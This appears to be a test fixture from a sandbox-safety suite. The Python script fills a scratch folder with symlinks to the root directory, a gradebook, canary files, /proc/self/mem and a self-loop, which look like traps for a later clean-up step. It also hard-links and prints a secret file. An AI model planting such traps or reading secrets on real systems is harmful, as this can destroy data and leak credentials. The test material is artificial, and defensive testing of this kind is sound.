# assignment: mnist_adam
# family: harming
# about: links out of the scratch folder (to the course, to /, to itself) for a clean-up to follow
# loses:
# may_lose:
# flag: maybe
# %% end
import os
import tempfile
from pathlib import Path


def in_a_sandbox():
    """Says whether harm stays inside: the canary's folder is hidden and one user is mapped."""
    try:
        users = Path("/proc/self/uid_map").read_text().split()[2]
    except (OSError, IndexError):
        return False
    return users == "1" and not Path("@CANARY_FILE@").parent.is_dir()


# Such links stay out of a developer's own folder.
hidden = in_a_sandbox()
folder = tempfile.mkdtemp(dir=os.getcwd() if hidden else None)
targets = {
    "gradebook": "@GRADEBOOK@",
    "course": os.path.dirname("@GRADEBOOK@"),
    "canary": "@CANARY_FILE@",
    "canaries": os.path.dirname("@CANARY_FILE@"),
    "everything": "/",
    "up": "../../../../../../../..",
    "itself": "itself",
    "zeros": "/dev/zero",
    "memory": "/proc/self/mem",
}
for name, target in targets.items():
    os.symlink(target, os.path.join(folder, name))
try:
    os.link("@SECRET_FILE@", os.path.join(folder, "secret"))
    print("CANARY:", open(os.path.join(folder, "secret"), "rb").read(500))
except OSError:
    pass
